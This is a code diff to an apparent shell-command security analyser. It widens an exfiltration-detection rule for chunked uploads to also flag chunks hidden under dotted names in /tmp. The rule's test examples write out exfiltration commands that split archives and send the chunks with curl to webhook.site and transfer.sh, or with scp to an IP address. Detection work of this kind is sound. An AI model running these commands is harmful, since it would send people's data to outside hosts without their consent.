@@ -1,6 +1,6 @@
 import { ruleAnalyzer, hasArg, operands, type AnalysisInput, type Rule } from '../rule.js';
 import type { SimpleCommand } from '../shell/types.js';
-import { classifyPath } from '../knowledge/paths.js';
+import { canonicalPath, classifyPath, hiddenInTemp } from '../knowledge/paths.js';
 import { archiveJob } from './collection.js';
 import { downstream, external, flows, wholeTree } from './exfiltration.js';
 
@@ -115,17 +115,19 @@ export const RULES: readonly Rule[] = [
   },
   {
     id: 'PX-VOL-006', name: 'splits-data-for-upload', score: 70, tactic: 'exfiltration', technique: 'T1030',
-    message: 'Splits data into fixed-size chunks and sends them to an outside host',
+    message: 'Splits data into fixed-size chunks and sends them to an outside host, or keeps the chunks under hidden names in a temporary directory',
     why: 'Chunking an archive before uploading keeps each transfer under size limits and alert thresholds: a known exfiltration pattern.',
     commands: ['split', 'gsplit'],
     test: (c, i) => {
       if (!c.argv.some((w) => /^(-b|-C|--bytes|--line-bytes)/.test(w))) return undefined;
+      // staged loot readied to leave: the chunks, or what is cut, hidden in /tmp (`split -b 5M /tmp/.x.tgz /tmp/.part_`)
+      if (operands(c).some((w) => hiddenInTemp(canonicalPath(w)))) return c.argv.join(' ');
       const f = flows(i).find((x) => x.dests.some(external));
       return f ? `${c.argv.join(' ')} … ${f.cmd.name}` : undefined;
     },
     examples: {
-      fire: ['split -b 500k /tmp/.src.tgz /tmp/.p_ && for f in /tmp/.p_*; do curl -s -F "f=@$f" https://webhook.site/6f0c1b9e; sleep 7; done', 'split -b 1M db.sql part_ && for p in part_*; do curl -T $p https://transfer.sh/$p; done', 'split --bytes=10M dump.tgz chunk. && scp chunk.* x@45.33.12.7:/d/'],
-      quiet: ['split -l 1000 data/users.csv data/chunks/users_', 'split -b 100M big.iso part_', 'split -b 1M a.bin p_ && curl http://localhost:3000/ok'],
+      fire: ['split -b 5M /tmp/.sys-update.tgz /tmp/.part_', 'split -b 500k /tmp/.src.tgz /tmp/.p_ && for f in /tmp/.p_*; do curl -s -F "f=@$f" https://webhook.site/6f0c1b9e; sleep 7; done', 'split -b 1M db.sql part_ && for p in part_*; do curl -T $p https://transfer.sh/$p; done', 'split --bytes=10M dump.tgz chunk. && scp chunk.* x@45.33.12.7:/d/'],
+      quiet: ['split -l 1000 data.csv chunk_', 'split -b 100M backup.tar.gz /mnt/usb/backup.part.', 'split -l 1000 data/users.csv data/chunks/users_', 'split -b 100M big.iso part_', 'split -b 1M a.bin p_ && curl http://localhost:3000/ok'],
     },
   },
   {
